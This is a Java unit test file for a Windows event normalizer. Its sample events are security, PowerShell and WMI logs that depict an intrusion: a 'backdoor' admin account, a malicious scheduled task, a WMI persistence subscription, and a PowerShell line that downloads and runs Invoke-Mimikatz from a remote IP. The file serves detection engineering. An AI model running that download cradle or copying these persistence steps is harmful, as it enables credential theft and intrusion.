package io.helklab.ingest.normalize;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** Security, PowerShell and WMI-Activity events (Winlogbeat 7), fields written from HELK's names. */
class OtherChannelsTest {

    private static final List<byte[]> SECURITY = TestRecords.lines("security-winlogbeat7.jsonl");
    private static final List<byte[]> OTHERS = TestRecords.lines("other-channels-winlogbeat7.jsonl");

    private final EventNormalizer normalizer = new EventNormalizer(TestRecords.CLOCK);

    @Test
    void securityLogon4624() {
        NormalizedEvent event = normalizer.normalize(SECURITY.get(0));

        assertThat(event.index()).isEqualTo("logs-endpoint-winevent-security-2024.03.01");
        assertThat(TestRecords.normalised(event.fields())).containsAllEntriesOf(TestRecords.normalised(Map.ofEntries(
                Map.entry("@timestamp", "2024-03-01T12:01:00.456Z"),
                Map.entry("event_id", 4624),
                Map.entry("log_name", "Security"),
                Map.entry("keywords", "Audit Success"),
                Map.entry("user_reporter_sid", "S-1-5-18"),
                Map.entry("user_reporter_name", "wkst01$"),
                Map.entry("user_reporter_domain", "helklab"),
                Map.entry("reporter_logon_id", 999),
                Map.entry("user_sid", "S-1-5-21-1-2-3-1104"),
                Map.entry("user_name", "pgustavo"),
                Map.entry("user_domain", "helklab"),
                Map.entry("user_logon_id", 0x8dcdc),
                Map.entry("logon_type", 10),
                Map.entry("logon_process_name", "user32"),
                Map.entry("logon_authentication_package_name", "negotiate"),
                Map.entry("src_host_name", "wkst01"),
                Map.entry("user_logon_guid", "00000000-0000-0000-0000-000000000000"),
                Map.entry("logon_key_length", 0),
                Map.entry("process_id", 0x2f8),
                Map.entry("process_path", "c:\\windows\\system32\\svchost.exe"),
                Map.entry("process_name", "svchost.exe"),
                Map.entry("src_ip_addr", "10.0.2.20"),
                Map.entry("src_port", 0),
                Map.entry("impersonation_level", "%%1833"),
                Map.entry("logon_restricted_adminmode", "%%1843"),
                Map.entry("logon_virtual_account", "%%1843"),
                Map.entry("user_linked_logon_id", 0),
                Map.entry("logon_elevated_token", "%%1842"))));
        assertThat(event.fields()).doesNotContainKeys("TargetLogonId", "SubjectUserName", "logon_transmitted_services",
                "user_network_account_name", "event_parse_warnings");
    }

    @Test
    void securityFailedLogon4625KeepsIpv6SourceAndStatus() {
        Map<String, Object> fields = normalizer.normalize(SECURITY.get(1)).fields();

        assertThat(TestRecords.normalised(fields)).containsAllEntriesOf(TestRecords.normalised(Map.of(
                "user_name", "administrator",
                "user_sid", "S-1-0-0",
                "event_status", "0xc000006d",
                "event_sub_status", "0xc000006a",
                "logon_failure_reason", "%%2313",
                "logon_type", 3,
                "src_host_name", "kali",
                "src_ip_addr", "fe80::2c4f:1a2b:3c4d:5e6f",
                "src_port", 51234,
                "reporter_logon_id", 0)));
        assertThat(fields).doesNotContainKeys("user_reporter_name", "process_path");
    }

    @Test
    void securityProcessCreation4688() {
        Map<String, Object> fields = normalizer.normalize(SECURITY.get(2)).fields();

        assertThat(TestRecords.normalised(fields)).containsAllEntriesOf(TestRecords.normalised(Map.ofEntries(
                Map.entry("user_sid", "S-1-5-21-1-2-3-1104"),
                Map.entry("user_name", "pgustavo"),
                Map.entry("user_domain", "helklab"),
                Map.entry("user_logon_id", 0x8dcdc),
                Map.entry("process_id", 0x1a2c),
                Map.entry("process_path", "c:\\windows\\system32\\whoami.exe"),
                Map.entry("process_name", "whoami.exe"),
                Map.entry("process_token_elevation_type", "%%1937"),
                Map.entry("process_parent_id", 0x1092),
                Map.entry("process_command_line", "whoami  /priv"),
                Map.entry("user_principal_sid", "S-1-0-0"),
                Map.entry("user_principal_id", 0),
                Map.entry("process_parent_path", "c:\\windows\\system32\\cmd.exe"),
                Map.entry("process_parent_name", "cmd.exe"),
                Map.entry("process_mandatory_sid", "S-1-16-12288"))));
        assertThat(fields).doesNotContainKeys("user_principal_name", "user_principal_domain");
    }

    @Test
    void securityScheduledTask4698SpecialLogon4672UserCreated4720GroupMember4732() {
        assertThat(normalizer.normalize(SECURITY.get(3)).fields())
                .containsEntry("scheduled_task_name", "\\microsoft\\windows\\updater")
                .containsEntry("scheduled_task_content", "<?xml version=\"1.0\" encoding=\"UTF-16\"?><Task><Actions>"
                        + "<Exec><Command>C:\\Users\\PGustavo\\Updater.exe</Command></Exec></Actions></Task>")
                .containsEntry("user_name", "pgustavo");
        assertThat(normalizer.normalize(SECURITY.get(4)).fields())
                .containsEntry("logon_privileges_assigned", "SeAssignPrimaryTokenPrivilege\n\t\t\tSeTcbPrivilege")
                .containsEntry("user_name", "system")
                .containsEntry("user_logon_id", 999);
        assertThat(normalizer.normalize(SECURITY.get(5)).fields())
                .containsEntry("target_user_name", "backdoor")
                .containsEntry("target_user_sid", "S-1-5-21-1-2-3-1120")
                .containsEntry("user_attribute_samaccount_name", "backdoor")
                .containsEntry("user_attribute_primary_group_id", "513")
                .containsEntry("user_attribute_new_uacvalue", "0x15");
        assertThat(normalizer.normalize(SECURITY.get(6)).fields())
                .containsEntry("group_name", "administrators")
                .containsEntry("group_domain", "builtin")
                .containsEntry("group_sid", "S-1-5-32-544")
                .containsEntry("group_member_sid", "S-1-5-21-1-2-3-1120")
                .doesNotContainKeys("group_member_name", "group_privilege_list");
    }

    @Test
    void powerShellScriptBlock4104() {
        NormalizedEvent event = normalizer.normalize(OTHERS.get(0));

        assertThat(event.index()).isEqualTo("logs-endpoint-winevent-powershell-2024.03.01");
        assertThat(TestRecords.normaliseNumbers(event.fields().get("powershell"))).isEqualTo(
                TestRecords.normaliseNumbers(Map.of("scriptblock", Map.of(
                        "text", "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/Invoke-Mimikatz.ps1')",
                        "id", "0a1b2c3d-4e5f-6071-8293-a4b5c6d7e8f9",
                        "message_number", 1,
                        "message_total", 1))));
    }

    @Test
    void powerShellModuleLogging4103UnpacksContextInfoAndPayload() {
        Map<String, Object> powershell = TestRecords.normalised(
                (Map<String, ?>) normalizer.normalize(OTHERS.get(1)).fields().get("powershell"));

        assertThat(powershell).isEqualTo(TestRecords.normalised(Map.ofEntries(
                Map.entry("host", Map.of("name", "ConsoleHost", "version", "5.1.19041.1",
                        "id", "8f2c3a1b-0d4e-4f5a-9b6c-7d8e9f0a1b2c",
                        "application", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -NoP")),
                Map.entry("engine_version", "5.1.19041.1"),
                Map.entry("runspace_id", "3c4d5e6f-7a8b-4c9d-8e0f-1a2b3c4d5e6f"),
                Map.entry("pipeline_id", 12),
                Map.entry("command", Map.of("name", "invoke-expression", "type", "Cmdlet")),
                Map.entry("sequence_number", 42),
                Map.entry("user_account", "helklab\\pgustavo"),
                Map.entry("user_domain", "helklab"),
                Map.entry("user_name", "pgustavo"),
                Map.entry("shell_id", "Microsoft.PowerShell"),
                Map.entry("CommandInvocation", "Invoke-Expression"),
                Map.entry("param", Map.of("name", List.of("Command"), "value", List.of("Write-Host hello"))))));
    }

    @Test
    void wmiActivity5861FromUserData() {
        NormalizedEvent event = normalizer.normalize(OTHERS.get(2));

        assertThat(event.index()).isEqualTo("logs-endpoint-winevent-wmiactivity-2024.03.01");
        assertThat(event.fields())
                .containsEntry("wmi_namespace", "//./root/subscription")
                .containsEntry("wmi_event_subsystem", "EvilFilter")
                .containsEntry("wmi_consumer", "CommandLineEventConsumer=\"EvilConsumer\"")
                .containsEntry("wmi_possible_cause", "Binding EventFilter: instance of __EventFilter")
                .containsEntry("wmi_xml_operation", "Operation_ESStoConsumerBinding");
    }
}
